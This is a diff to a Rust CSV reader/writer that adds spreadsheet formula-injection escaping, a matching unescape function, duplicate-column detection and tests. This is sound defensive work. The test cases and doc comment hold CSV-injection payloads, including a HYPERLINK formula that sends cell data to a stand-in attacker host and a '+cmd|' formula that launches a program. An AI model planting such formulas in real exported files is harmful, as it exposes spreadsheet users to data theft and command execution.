@@ -1,6 +1,15 @@
 //! A small RFC 4180 reader and writer for the CSV text Forma exchanges: quoted
 //! cells, doubled quotes, CRLF or LF line ends, an optional UTF-8 byte-order mark.
 //! Also the number format every CSV Forma writes shares.
+//!
+//! Every text cell Forma writes is safe to open in a spreadsheet. A cell that
+//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a
+//! formula there (OWASP, "CSV Injection": `=HYPERLINK(...)` sends data away,
+//! `+cmd|...` starts programs), so [`write_cell`] puts a `'` in front of it, which
+//! spreadsheets read as "this is text". A cell that already starts with `'` gets
+//! one too, so that [`unescape_cell`], which Forma's readers apply to text cells,
+//! takes exactly one off and a file read back gives what was written. Numbers
+//! are written as numbers (a negative load stays a number).
 
 use std::borrow::Cow;
 
@@ -172,15 +181,73 @@ impl<'a> Reader<'a> {
     }
 }
 
-/// Appends `cell` to `out`, quoted when it holds a comma, quote or line break.
+/// The first characters that make a spreadsheet read a cell as a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Appends the text `cell` to `out`: with a `'` in front when it starts like a
+/// formula (or with `'`), quoted when it holds a comma, quote or line break.
 pub(crate) fn write_cell(out: &mut String, cell: &str) {
+    let escape = cell.starts_with(FORMULA_START) || cell.starts_with('\'');
     if cell.contains([',', '"', '\n', '\r']) {
         out.push('"');
+        if escape {
+            out.push('\'');
+        }
         out.push_str(&cell.replace('"', "\"\""));
         out.push('"');
     } else {
+        if escape {
+            out.push('\'');
+        }
         out.push_str(cell);
     }
+}
+
+/// A text cell as [`write_cell`] was given it: one `'` taken off when it stands
+/// before a formula's first character or another `'`.
+pub(crate) fn unescape_cell(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) || rest.starts_with('\'') => rest,
+        _ => cell,
+    }
+}
+
+/// A column a header names twice.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct RepeatedColumn {
+    pub name: String,
+    /// 1-based positions of its first two appearances.
+    pub first: usize,
+    pub second: usize,
+}
+
+impl RepeatedColumn {
+    /// What a header should be, in words.
+    pub(crate) fn accepted(&self) -> String {
+        format!(
+            "a header that names each column once; `{}` is both column {} and column {}",
+            self.name, self.first, self.second
+        )
+    }
+}
+
+/// The first column `head` names twice (names compared without surrounding space).
+pub(crate) fn duplicate_column<S: AsRef<str>>(head: &[S]) -> Option<RepeatedColumn> {
+    let mut seen = std::collections::HashMap::with_capacity(head.len());
+    for (i, name) in head.iter().enumerate() {
+        let name = name.as_ref().trim();
+        if name.is_empty() {
+            continue;
+        }
+        if let Some(first) = seen.insert(name, i) {
+            return Some(RepeatedColumn {
+                name: name.to_owned(),
+                first: first + 1,
+                second: i + 1,
+            });
+        }
+    }
+    None
 }
 
 /// Appends `x` exactly as `Display` writes it (shortest digits that read back
@@ -412,6 +479,49 @@ mod tests {
         s.push(',');
         write_cell(&mut s, "plain");
         assert_eq!(records(&s)[0].cells, ["a,\"b\"", "plain"]);
+    }
+
+    /// One case per character OWASP lists, each read back exactly.
+    #[test]
+    fn a_cell_that_starts_like_a_formula_is_written_as_text_and_reads_back() {
+        let cases = [
+            (
+                "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
+                "\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"click\"\")\"",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(1+1)", "'@SUM(1+1)"),
+            ("\tcalc", "'\tcalc"),
+            ("\rcalc", "\"'\rcalc\""),
+            ("'=already quoted", "''=already quoted"),
+            ("'plain", "''plain"),
+            ("plain = fine", "plain = fine"),
+        ];
+        for (cell, written) in cases {
+            let mut out = String::new();
+            write_cell(&mut out, cell);
+            assert_eq!(out, written, "{cell:?}");
+            assert!(
+                !out.trim_start_matches('"').starts_with(FORMULA_START),
+                "{out:?}"
+            );
+            let read = &records(&out)[0].cells[0];
+            assert_eq!(unescape_cell(read), cell, "{out:?}");
+        }
+        assert_eq!(unescape_cell("'hand typed"), "'hand typed");
+    }
+
+    #[test]
+    fn a_repeated_column_is_found_with_both_positions() {
+        assert_eq!(duplicate_column(&["a", "b", "c"]), None);
+        let twice = duplicate_column(&["athlete_id", "load", "date", " load "]).unwrap();
+        assert_eq!(
+            (twice.name.as_str(), twice.first, twice.second),
+            ("load", 2, 4)
+        );
+        assert!(twice.accepted().contains("column 2 and column 4"));
+        assert_eq!(duplicate_column(&["a", "", ""]), None);
     }
 
     #[test]
